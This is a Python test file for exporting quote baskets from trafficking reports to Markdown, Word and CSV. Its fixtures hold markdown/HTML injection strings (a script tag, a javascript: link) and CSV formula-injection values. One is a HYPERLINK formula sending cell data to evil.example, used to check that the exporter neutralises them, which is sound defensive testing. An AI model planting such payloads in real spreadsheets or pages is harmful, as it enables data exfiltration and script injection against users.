"""Markdown, Word and CSV exports of a basket: exact quotes and citations, read back again."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from docx import Document
from markdown_it import MarkdownIt

from index.quotes.basket import Basket, BasketItem, items_from_hits
from index.quotes.citations import STYLES, UnknownStyle, citation_text
from index.quotes.export import (CITATION_STYLE, CSV_FIELDS, EDITED_FLAG, NOTE_LABEL, NOTE_STYLE, QUOTE_STYLE, ExportEntry,
                          MarkdownFormatError, export_entries, parse_markdown, to_csv, to_csv_file, to_docx,
                          to_markdown, write_docx)
from index.retrieval.search import Hit
from index.store.embedded import ReportInfo
from index.records import Passage

REPORT = ReportInfo(report="caaht-2006-kukes-extract.txt", title="2006 CAAHT Annual Conference Report",
                    year=2006, sha256="ab" * 32, kind="text", pages=70, passages=70,
                    ingested_at="2024-05-01T10:00:00+00:00", source_file="corpus/caaht-2006-kukes-extract.txt")
PDF_REPORT = replace(REPORT, report="GLOTIP2024_Chapter_2.pdf", title="Global Report on Trafficking in Persons 2024",
                     year=2024, sha256="cd" * 32, kind="pdf", source_file="GLOTIP2024_Chapter_2.pdf")

TRANSIT = Passage(
    id="caaht-2006-kukes-extract.txt:p38:1", report=REPORT.report, title=REPORT.title, year=2006,
    text="The qark of Kukes is a major transit location. Victims pass through Kukës, Has and Tropojë.",
    page=38, page_end=38, page_label="38", page_end_label="38",
    section="Recent developments in the work of the Regional Committee", speaker="Mr. Azem Tema",
    organisation="Kukes—Prefect's Office (Technical Secretariat)", part="presentation")
ACTIONS = replace(TRANSIT, id="caaht-2006-kukes-extract.txt:p48:2", page=48, page_end=48, page_label="48",
                  page_end_label="48",
                  text="Five chosen actions:\n1. Train anti-trafficking police.\n2. Open a shelter.",
                  section="Identifying Actions in Qark Groups — Qarqe: Diber and Kukes", speaker=None,
                  organisation=None, part="actions")
INTRO = replace(TRANSIT, id="caaht-2006-kukes-extract.txt:intro:1", page=None, page_end=None, page_label=None,
                page_end_label=None, section=None, speaker=None, organisation=None, part=None,
                text="This document extracts key data for Kukës Qark.")
PDF = Passage(
    id="GLOTIP2024_Chapter_2.pdf:p5:3", report=PDF_REPORT.report, title=PDF_REPORT.title, year=2024,
    text="In Western and Southern Europe, 4,712 victims of trafficking for forced labour were detected.",
    page=5, page_end=6, page_label="69", page_end_label="70", section="Western and Southern Europe",
    speaker=None, organisation=None, part=None, subsection="Forced labour")
# Report text is untrusted: every line here means something to Markdown, and the quote has a
# blank line, a trailing backslash, curly quotes, commas and accents.
HOSTILE_TEXT = ("*bold* <script>alert(1)</script> [click](javascript:x) & &amp; ~~gone~~ | a | b |\n"
                "# not a heading\n- not a list\n1. not a list\n---\n> not a quote\n===\n"
                "back\\slash at the end\\\n\n"
                "after a blank line, “curly” \"straight\" 'single', Kukës [^1] `code` _under_")
HOSTILE = replace(TRANSIT, id="hostile.txt:p2:1", text=HOSTILE_TEXT, page=2, page_end=2, page_label="2",
                  page_end_label="2", section="<b>Section</b> *one*", speaker="Ms. [X](y)",
                  organisation="Org & Co | Ltd")
NOTE = "Use in section 2, “budget”, \"needs\";\nsee Kukës — again."
EDITED_HOSTILE = HOSTILE_TEXT.replace("alert(1)", "alert(2)")


def basket() -> Basket:
    return (Basket()
            .add(TRANSIT, REPORT, "Victims pass through Kukës, Has and Tropojë.").edit_note(1, NOTE)
            .add(ACTIONS, REPORT)
            .add(INTRO, REPORT)
            .add(PDF, PDF_REPORT).edit_note(4, "---")
            .add(HOSTILE, REPORT).edit_quote(5, EDITED_HOSTILE).edit_note(5, "# note\n\n> kept\\"))


def expected_entries(items, style: str) -> tuple[ExportEntry, ...]:
    return tuple(ExportEntry(i.quote, citation_text(i.citation, style), i.note, i.verified) for i in items)


def test_basket_under_test_has_one_edited_quote():
    assert [i.verified for i in basket()] == [True, True, True, True, False]


def test_entries_are_quote_citation_note_and_flag():
    first = export_entries(basket().items, "plain")[0]
    assert first == ExportEntry(
        quote="Victims pass through Kukës, Has and Tropojë.",
        citation="— 2006 CAAHT Annual Conference Report, p. 38, presentation by Mr. Azem Tema "
                 "(Kukes—Prefect's Office)",
        note=NOTE, verified=True)


@pytest.mark.parametrize("style", STYLES)
def test_markdown_round_trips(style):
    items = basket().items
    assert parse_markdown(to_markdown(items, style)) == expected_entries(items, style)


def test_markdown_layout():
    items = (Basket().add(INTRO, REPORT).edit_note(1, "Opening line.")
             .add(TRANSIT, REPORT).edit_quote(2, "Kukes *").items)
    assert to_markdown(items, "footnote", title="For the proposal") == (
        "# For the proposal\n\n---\n\n"
        "> This document extracts key data for Kukës Qark.[^1]\n\n"
        "[^1]: 2006 CAAHT Annual Conference Report.\n\n"
        "Note: Opening line.\n\n---\n\n"
        "> Kukes \\*[^2]\n\n"
        f"**{EDITED_FLAG}**\n\n"
        "[^2]: Mr. Azem Tema, Kukes—Prefect's Office (Technical Secretariat), presentation “Recent developments in "
        "the work of the Regional Committee”, 2006 CAAHT Annual Conference Report, p. 38.\n")


def test_markdown_shows_report_text_literally():
    html = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(to_markdown(basket().items, "plain"))
    for element in ("<script", "<em>", "<a ", "<b>", "<ol", "<ul", "<table", "<s>", "<code>", "<h2"):
        assert element not in html, element
    assert (html.count("<h1>"), html.count("<blockquote>"), html.count("<hr />")) == (1, 5, 5)
    assert html.count("<strong>") == html.count(f"<strong>{EDITED_FLAG}</strong>") == 1


@pytest.mark.parametrize(
    "text, error",
    [
        ("# Quotes\n\n---\n\nno quote here\n", "entry 1 of the Markdown export does not start with a block quote"),
        ("# Quotes\n\n---\n\n> a quote\n", "entry 1 of the Markdown export has no citation after its quote"),
    ],
    ids=["no-quote", "no-citation"],
)
def test_parse_markdown_names_what_is_wrong(text, error):
    with pytest.raises(MarkdownFormatError, match=error):
        parse_markdown(text)


def test_empty_basket_exports_a_title_only():
    assert to_markdown((), title="Quotes") == "# Quotes\n"
    assert parse_markdown(to_markdown(())) == ()
    assert docx_entries(to_docx(())) == ()
    assert list(csv.DictReader(io.StringIO(to_csv(()), newline=""))) == []


def docx_entries(data: bytes) -> tuple[ExportEntry, ...]:
    """Read a Word export back with python-docx: paragraphs by style, superscript note numbers left out."""
    entries = []
    for paragraph in Document(io.BytesIO(data)).paragraphs:
        style = paragraph.style.name
        text = "".join(run.text for run in paragraph.runs if not run.font.superscript)
        if style == QUOTE_STYLE:
            entries.append({"quote": text, "citation": None, "note": "", "verified": True})
        elif style == CITATION_STYLE and text == EDITED_FLAG:
            entries[-1]["verified"] = False
        elif style == CITATION_STYLE:
            entries[-1]["citation"] = text
        elif style == NOTE_STYLE:
            entries[-1]["note"] = text.removeprefix(NOTE_LABEL)
    return tuple(ExportEntry(**entry) for entry in entries)


@pytest.mark.parametrize("style", STYLES)
def test_word_holds_the_exact_quotes_and_citations(style):
    items = basket().items
    assert docx_entries(to_docx(items, style)) == expected_entries(items, style)


def test_word_layout_in_footnote_style():
    document = Document(io.BytesIO(to_docx(basket().items, "footnote", title="For the proposal")))
    paragraphs = document.paragraphs
    assert (paragraphs[0].style.name, paragraphs[0].text) == ("Heading 1", "For the proposal")
    assert document.core_properties.title == "For the proposal"
    marks = [(p.style.name, [r.text for r in p.runs if r.font.superscript]) for p in paragraphs[1:]]
    assert marks == [(QUOTE_STYLE, ["1"]), (CITATION_STYLE, ["1 "]), (NOTE_STYLE, []),
                     (QUOTE_STYLE, ["2"]), (CITATION_STYLE, ["2 "]),
                     (QUOTE_STYLE, ["3"]), (CITATION_STYLE, ["3 "]),
                     (QUOTE_STYLE, ["4"]), (CITATION_STYLE, ["4 "]), (NOTE_STYLE, []),
                     (QUOTE_STYLE, ["5"]), (CITATION_STYLE, []), (CITATION_STYLE, ["5 "]), (NOTE_STYLE, [])]
    [flag] = [p for p in paragraphs if p.text == EDITED_FLAG]
    assert (flag.runs[0].bold, str(flag.runs[0].font.color.rgb)) == (True, "C00000")


def test_word_quote_style_is_an_indented_block():
    styles = Document(io.BytesIO(to_docx(basket().items))).styles
    quote, citation = styles[QUOTE_STYLE].paragraph_format, styles[CITATION_STYLE]
    assert quote.left_indent > 0 and quote.right_indent > 0 and quote.keep_with_next
    assert citation.font.size.pt == 9


def test_write_docx_to_a_path(tmp_path: Path):
    items = basket().items
    path = write_docx(items, tmp_path / "quotes.docx", "author-date")
    assert docx_entries(path.read_bytes()) == expected_entries(items, "author-date")


@pytest.mark.parametrize("export", [to_markdown, to_docx], ids=["markdown", "word"])
def test_unknown_style_is_refused(export):
    with pytest.raises(UnknownStyle):
        export(basket().items, "apa")


def read_csv(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return reader.fieldnames, list(reader)


def test_csv_round_trips_with_provenance():
    header, rows = read_csv(to_csv(basket().items))
    assert header == list(CSV_FIELDS)
    assert rows[0] == {
        "quote": "Victims pass through Kukës, Has and Tropojë.", "report": "caaht-2006-kukes-extract.txt",
        "page": "38", "section": "Recent developments in the work of the Regional Committee", "subsection": "",
        "speaker": "Mr. Azem Tema", "organisation": "Kukes—Prefect's Office (Technical Secretariat)",
        "passage_id": "caaht-2006-kukes-extract.txt:p38:1", "report_sha256": "ab" * 32,
        "ingested_at": "2024-05-01T10:00:00+00:00", "note": NOTE, "verified": "yes"}
    assert [(r["quote"], r["page"], r["section"], r["subsection"], r["report_sha256"], r["verified"])
            for r in rows[1:]] == [
        (ACTIONS.text, "48", ACTIONS.section, "", "ab" * 32, "yes"),
        (INTRO.text, "", "", "", "ab" * 32, "yes"),
        (PDF.text, "69–70", "Western and Southern Europe", "Forced labour", "cd" * 32, "yes"),
        (EDITED_HOSTILE, "2", "<b>Section</b> *one*", "", "ab" * 32, "no"),
    ]


def test_csv_download_is_utf8_with_a_bom_for_excel():
    data = to_csv_file(basket().items)
    assert data.startswith(b"\xef\xbb\xbf" + ",".join(CSV_FIELDS).encode() + b"\r\n")
    assert read_csv(data.decode("utf-8-sig")) == read_csv(to_csv(basket().items))
    assert read_csv(data.decode("utf-8-sig"))[1][0]["quote"].endswith("Tropojë.")


def test_an_answer_exports_like_a_basket():
    hits = [Hit(1, 0.9, TRANSIT, "Victims pass through Kukës, Has and Tropojë.", 47, 0.7),
            Hit(2, 0.8, PDF, PDF.text, 0, 0.6)]
    items: tuple[BasketItem, ...] = items_from_hits(hits, [REPORT, PDF_REPORT])
    assert parse_markdown(to_markdown(items, "author-date")) == (
        ExportEntry("Victims pass through Kukës, Has and Tropojë.",
                    "(Mr. Azem Tema 2006, Kukes—Prefect's Office, 2006 CAAHT Annual Conference Report, p. 38)",
                    "", True),
        ExportEntry(PDF.text,
                    "(Global Report on Trafficking in Persons 2024, pp. 69–70 [printed page; PDF pp. 5–6])",
                    "", True))


FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "plus": "+SUM(A1:A9)",
    "minus": "-2+3",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS.keys())
def test_csv_cells_that_a_spreadsheet_would_run_are_defused(text):
    hostile = replace(TRANSIT, id="hostile.txt:p9:1", text=text, section=text, speaker=text, organisation=text)
    item = Basket().add(hostile, REPORT).edit_note(1, "x").items[0]
    item = replace(item, note=text)  # edit_note strips whitespace; a note may still start with "@"
    _, rows = read_csv(to_csv([item]))
    for field in ("quote", "section", "speaker", "organisation", "note"):
        assert rows[0][field] == "'" + text, field


def test_csv_leaves_ordinary_cells_alone():
    _, rows = read_csv(to_csv(basket().items))
    assert [r["quote"][0] for r in rows] == ["V", "F", "T", "I", "*"]


def test_word_export_can_hold_a_small_image_of_each_quotes_page():
    from PIL import Image as PILImage

    buffer = io.BytesIO()
    PILImage.new("RGB", (60, 80), (255, 200, 0)).save(buffer, format="PNG")
    png = buffer.getvalue()
    items = basket().items
    data = to_docx(items, page_image=lambda item: png if item.passage.page == 38 else None)
    document = Document(io.BytesIO(data))
    assert len(document.inline_shapes) == 1
    assert len(Document(io.BytesIO(to_docx(items))).inline_shapes) == 0
